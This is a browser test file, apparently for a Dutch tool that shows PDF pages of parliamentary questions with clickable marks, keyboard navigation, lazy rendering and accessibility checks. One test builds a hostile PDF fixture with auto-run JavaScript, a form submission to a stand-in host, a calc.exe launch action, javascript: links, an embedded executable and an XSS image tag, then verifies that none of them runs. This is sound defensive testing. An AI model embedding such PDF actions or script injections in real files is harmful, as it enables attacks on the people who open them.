// The pages of a PDF with the marks over them: each over its own words, a link both ways, and nothing of the file runs.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { longSet, pdf } from './pdfs.mjs';
import { expect, file, fixture, set, test } from './support.mjs';
import { zip } from './zips.mjs';

const PDF = fixture('ah-tk-20232024-2210.pdf');
const NOTICE = fixture('ah-tk-20232024-1999.pdf');
const given = (/** @type {string} */ name, /** @type {Buffer} */ buffer) => ({ name, mimeType: '', buffer });
const choice = (/** @type {import('@playwright/test').Page} */ page) => page.getByRole('group', { name: 'Weergave' });

/** @param {import('@playwright/test').Page} page @param {Buffer} buffer */
async function openPages(page, buffer) {
  await page.goto('./');
  await page.setInputFiles('#file-input', [given('stuk.pdf', buffer)]);
  await choice(page).getByRole('button', { name: 'PDF-pagina’s' }).click();
  await expect(page.locator('.pdf-page .mark').first()).toBeAttached({ timeout: 20_000 });
}

/** What the library says that stands on the first page, and how wide that is. @param {import('@playwright/test').Page} page @param {Buffer} buffer */
async function firstPage(page, buffer) {
  return page.evaluate(async (base64) => {
    const { load } = await import('./worker/formats/pdf.js');
    const { getDocument, Util, VerbosityLevel } = await load();
    const data = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
    const first = await (await getDocument({ data, verbosity: VerbosityLevel.ERRORS }).promise).getPage(1);
    const { width: across, transform: view } = first.getViewport({ scale: 1 });
    const { items } = await first.getTextContent();
    return { across, items: items.map(({ str, transform, width }) => ({ text: str, x: Util.transform(view, transform)[4], y: Util.transform(view, transform)[5], width })) };
  }, buffer.toString('base64'));
}

test('marks lie over the words that the file has there', async ({ page }) => {
  await openPages(page, PDF);
  const { across, items } = await firstPage(page, PDF);
  const marks = await page.locator('.pdf-page').first().evaluate((sheet, across) => {
    const { left, top, width } = sheet.getBoundingClientRect();
    const points = across / width;
    return [...sheet.querySelectorAll('.mark')].map((mark) => {
      const box = mark.getBoundingClientRect();
      return { text: mark.textContent, kind: mark.className, x: (box.left - left) * points, top: (box.top - top) * points, bottom: (box.bottom - top) * points, width: box.width * points };
    });
  }, across);
  const headings = marks.filter(({ kind }) => /Heading/.test(kind));
  expect(headings.map(({ text }) => text)).toEqual(['Vraag 1', 'Antwoord 1', 'Vraag 2']);
  for (const { text, x, top, bottom, width } of headings) {
    const item = items.find((each) => each.text === text);
    expect(Math.abs(x - item.x), text).toBeLessThan(0.5);
    expect(Math.abs(width - item.width), text).toBeLessThan(0.5);
    expect(item.y > top && item.y < bottom, text).toBe(true);
  }
  // Names, dates and the subject stand inside runs.
  for (const kind of ['asker', 'addressee', 'subject', 'submitted', 'replier', 'received']) expect(marks.some((mark) => mark.kind.includes(kind)), kind).toBe(true);
});

test('a mark within a line begins and ends where the ink of its words does', async ({ page }) => {
  await openPages(page, PDF);
  const edges = await page.locator('.pdf-page').first().evaluate((sheet) => {
    const canvas = sheet.querySelector('canvas');
    const copy = new OffscreenCanvas(canvas.width, canvas.height).getContext('2d', { willReadFrequently: true });
    copy.drawImage(canvas, 0, 0);
    const { left, top, width } = sheet.getBoundingClientRect();
    const scale = canvas.width / width;
    return ['asker', 'addressee', 'subject', 'replier'].map((kind) => {
      const box = sheet.querySelector(`.mark.${kind}`).getBoundingClientRect();
      const ink = (/** @type {number} */ x) => copy.getImageData(Math.round(x), (box.top - top) * scale, 1, box.height * scale).data.some((value, i) => i % 4 < 3 && value < 150);
      const [start, end] = [(box.left - left) * scale, (box.right - left) * scale];
      const near = (/** @type {number} */ from, /** @type {number} */ step) => {
        for (let way = 0; way < 40; way += 1) if (ink(from + step * way)) return way / scale;
        return 99;
      };
      // Inwards there is ink at once; outwards only behind the space that parts the words.
      return { kind, inwards: Math.max(near(start + 0.5, 1), near(end - 0.5, -1)), outwards: Math.min(near(start - 1.5, -1), near(end + 1.5, 1)) };
    });
  });
  for (const { kind, inwards, outwards } of edges) {
    expect(inwards, kind).toBeLessThan(3);
    expect(outwards, kind).toBeGreaterThan(0.5);
  }
});

test('a page whose text is turned is shown upright, with the marks over its words', async ({ page }) => {
  const words = ['Vragen van het lid Jansen (SP) aan de Minister van Financien over geld', '(ingezonden 22 oktober 2024).', 'Vraag 1', 'Kent u dit bericht?'];
  await openPages(page, pdf([{ lines: words.map((text, line) => ({ x: 100 + 14 * line, y: 100, text, turn: 1 })) }]));
  const sheet = await page.locator('.pdf-page').boundingBox();
  const mark = await page.locator('.pdf-page .questionHeading').boundingBox();
  expect(sheet.width / sheet.height).toBeCloseTo(842 / 595, 1);
  expect((mark.x - sheet.x) / sheet.width).toBeCloseTo(100 / 842, 2);
  expect((mark.y + mark.height / 2 - sheet.y) / sheet.height).toBeCloseTo(125 / 595, 2);
});

/** The picture of jpx.pdf is a JPEG 2000 of two colours, made with Pillow; the decoder for it is not on the page. */
test('a page whose picture cannot be drawn is shown without, and says so', async ({ page }) => {
  await openPages(page, fixture('jpx.pdf'));
  await expect(page.locator('.pdf-lacks')).toHaveText(/JPEG 2000/);
  await expect(page.locator('.pdf-page .questionHeading')).toHaveText('Vraag 1');
  await openPages(page, NOTICE);
  await expect(page.locator('.pdf-lacks')).toHaveCount(0);
});

test('links lead out only by http, and every other mark to its finding', async ({ page }) => {
  await openPages(page, NOTICE);
  await page.locator('.pdf-page').last().scrollIntoViewIfNeeded();
  await expect(page.locator('.pdf-page .mark.citation').first()).toBeAttached();
  const links = await page.locator('.pdf-page a').evaluateAll((all) => all.map((a) => ({ href: a.getAttribute('href'), rel: a.rel, target: a.target })));
  const outside = links.filter(({ href }) => !href.startsWith('#'));
  expect(outside.length).toBeGreaterThan(0);
  for (const { href, rel, target } of outside) expect([/^https?:/.test(href), rel, target]).toEqual([true, 'noopener noreferrer', '_blank']);
  await page.locator('.pdf-page .mark.questionHeading').first().click();
  await expect(page.locator('#tab-questions')).toHaveAttribute('aria-selected', 'true');
  await expect(page.locator('#panel-questions .is-current')).toBeVisible();
});

test('what is chosen beside the pages is shown on them, also on a page that is still to be drawn', async ({ page }) => {
  await openPages(page, PDF);
  await page.click('#tab-questions');
  await page.locator('#panel-questions .qa-number button, #panel-questions .qa-number a').nth(11).click();
  const here = page.locator('.pdf-here');
  await expect(here.first()).toBeInViewport();
  const shown = await here.evaluateAll((all) => all.map((each) => each.closest('.pdf-page').getAttribute('aria-label')));
  expect(new Set(shown).size).toBe(1);
  expect(shown[0]).not.toBe('Pagina 1 van 5');
  // The heading of that question lies under the first of them.
  const [mark, top] = [await page.locator('.pdf-page .questionHeading', { hasText: 'Vraag 12' }).boundingBox(), await here.last().boundingBox()];
  expect(Math.abs(mark.x - top.x)).toBeLessThan(60);
});

test('by keyboard: to the pages, along the marks, and back to the text', async ({ page }) => {
  await page.goto('./');
  await page.setInputFiles('#file-input', [given('stuk.pdf', PDF)]);
  const [text, pages] = [choice(page).getByRole('button', { name: 'Leestekst' }), choice(page).getByRole('button', { name: 'PDF-pagina’s' })];
  await expect(text).toHaveAttribute('aria-pressed', 'true');
  await text.focus();
  await page.keyboard.press('Tab');
  await expect(pages).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(pages).toHaveAttribute('aria-pressed', 'true');
  await expect(page.locator('.edition')).toBeHidden();
  await expect(page.locator('.pdf-page .mark').first()).toBeAttached();
  for (let i = 0; i < 6 && !(await page.locator('.pdf-page .mark').first().evaluate((mark) => mark === document.activeElement)); i += 1) await page.keyboard.press('Tab');
  await expect(page.locator('.pdf-page .mark').first()).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.locator('.findings .is-current')).toBeVisible();
  await text.press('Space');
  await expect(page.locator('.edition')).toBeVisible();
  await expect(page.locator('.pdf-page')).toHaveCount(0);
});

test('only PDFs have pages, and in another language they stay', async ({ page }) => {
  await page.goto('./');
  await page.setInputFiles('#file-input', [file('a.txt', set({ nr: 1 }))]);
  await expect(page.locator('h1.title')).toBeVisible();
  await expect(page.locator('.pages-switch')).toHaveCount(0);
  await openPages(page, PDF);
  await page.click('#language');
  await expect(page.getByRole('group', { name: 'View' }).getByRole('button', { name: 'PDF pages' })).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByRole('region', { name: 'Page 1 of 5' })).toBeVisible();
});

test('nothing that a file wants to do is done', async ({ page }) => {
  const hostile = pdf([{
    lines: [{ x: 150, y: 700, text: 'Vragen van het lid Jansen (SP) aan de Minister van Financiën over iets (ingezonden 22 oktober 2024).' },
      { x: 150, y: 680, text: 'Vraag 1' }, { x: 150, y: 666, text: 'Kent u javascript:alert(1) en <img src=x onerror=alert(1)>?' }],
    more: '/Annots[6 0 R 7 0 R 8 0 R 9 0 R]/AA<</O<</S/JavaScript/JS(app.alert\\(2\\))>>>>',
  }], {
    catalog: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://elders.example/"\\))>>/Names<</EmbeddedFiles<</Names[(a.exe)10 0 R]>>/JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert\\(3\\))>>]>>>>/AcroForm<</Fields[9 0 R]>>',
    objects: [
      '<</Type/Annot/Subtype/Link/Rect[100 600 300 800]/A<</S/Launch/F(calc.exe)>>>>',
      '<</Type/Annot/Subtype/Link/Rect[100 600 300 800]/A<</S/URI/URI(javascript:alert\\(4\\))>>>>',
      '<</Type/Annot/Subtype/Link/Rect[100 600 300 800]/A<</S/GoToR/F(http://elders.example/b.pdf)>>>>',
      '<</Type/Annot/Subtype/Widget/FT/Tx/T(veld)/Rect[100 500 300 520]/AA<</K<</S/JavaScript/JS(app.alert\\(5\\))>>>>>>',
      '<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>',
      '<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream',
    ],
  });
  const dialogs = [];
  page.on('dialog', (dialog) => { dialogs.push(dialog.message()); dialog.dismiss(); });
  await openPages(page, hostile);
  await page.locator('.pdf-page').click({ position: { x: 200, y: 200 } });
  expect(dialogs).toEqual([]);
  expect(await page.locator('.pdf-page a').evaluateAll((all) => all.every((a) => /^(#|https?:)/.test(a.getAttribute('href'))))).toBe(true);
  expect(await page.locator('.pdf-page :is(input, img, iframe, object, embed, script)').count()).toBe(0);
});

test('of a thousand pages only those in sight are drawn, and the page stays responsive', async ({ page }) => {
  test.setTimeout(120_000);
  await page.goto('./');
  await page.setInputFiles('#file-input', [given('lang.pdf', longSet(1000))]);
  await choice(page).getByRole('button', { name: 'PDF-pagina’s' }).click({ timeout: 60_000 });
  await page.evaluate(() => {
    window.longest = 0;
    new PerformanceObserver((list) => { for (const { duration } of list.getEntries()) window.longest = Math.max(window.longest, duration); }).observe({ type: 'longtask' });
  });
  await expect(page.locator('.pdf-page')).toHaveCount(1000, { timeout: 20_000 });
  await expect(page.locator('.pdf-page canvas').first()).toBeVisible({ timeout: 20_000 });
  await expect(page.locator('.pdf-page .mark').first()).toBeAttached({ timeout: 60_000 });
  for (const at of [0.3, 0.6, 1]) {
    await page.evaluate((part) => scrollTo(0, document.documentElement.scrollHeight * part), at);
    const inSight = () => [...document.querySelectorAll('canvas')].some((each) => each.getBoundingClientRect().top < innerHeight && each.getBoundingClientRect().bottom > 0);
    await expect.poll(() => page.evaluate(inSight), { timeout: 20_000 }).toBe(true);
    expect(await page.locator('canvas').count()).toBeLessThan(8);
  }
  await expect(page.getByRole('region', { name: 'Pagina 999 van 1.000' }).locator('.answerHeading')).toHaveText('Antwoord 999');
  // Far more than it takes, for machines that are busy with other things.
  expect(await page.evaluate(() => window.longest)).toBeLessThan(1000);
});

test('a file that is no longer as it was gives one sentence', async ({ page }) => {
  const folder = mkdtempSync(join(tmpdir(), 'vraagstuk-'));
  const path = join(folder, 'weg.pdf');
  try {
    writeFileSync(path, PDF);
    await page.goto('./');
    await page.setInputFiles('#file-input', path);
    await expect(choice(page)).toBeVisible();
    writeFileSync(path, NOTICE);
    await choice(page).getByRole('button', { name: 'PDF-pagina’s' }).click();
    await expect(page.locator('.pages').getByRole('status')).toHaveText(/^«weg\.pdf» kan niet opnieuw gelezen worden/);
    await choice(page).getByRole('button', { name: 'Leestekst' }).click();
    await expect(page.locator('.edition')).toBeVisible();
  } finally {
    rmSync(folder, { recursive: true });
  }
});

for (const colorScheme of /** @type {const} */ (['light', 'dark'])) {
  test.describe(colorScheme, () => {
    test.use({ colorScheme });

    test('the pages are for everyone, and the paper stays white', async ({ page }) => {
      await openPages(page, PDF);
      const { violations } = await new AxeBuilder({ page }).analyze();
      expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.target} ${nodes[0]?.failureSummary}`)).toEqual([]);
      expect(await page.locator('.pdf-page').first().evaluate((sheet) => getComputedStyle(sheet).backgroundColor)).toBe('rgb(255, 255, 255)');
    });
  });
}

test('a PDF out of a zip has its pages too, and a search goes back to the text', async ({ page }) => {
  await page.goto('./');
  await page.setInputFiles('#file-input', [given('twee.zip', zip([{ name: 'stuk.pdf', data: PDF }, { name: 'b.txt', data: set({ nr: 12 }) }]))]);
  await page.locator('.documents .place').filter({ hasNotText: 'onderwerp 12' }).click();
  await choice(page).getByRole('button', { name: 'PDF-pagina’s' }).click();
  await expect(page.locator('.pdf-page .mark').first()).toBeAttached({ timeout: 20_000 });
  await expect(page.locator('.find')).toBeHidden();
  await page.locator('h1.title').focus();
  await page.keyboard.press('/');
  await expect(page.locator('.find input')).toBeFocused();
  await expect(page.locator('.edition')).toBeVisible();
});
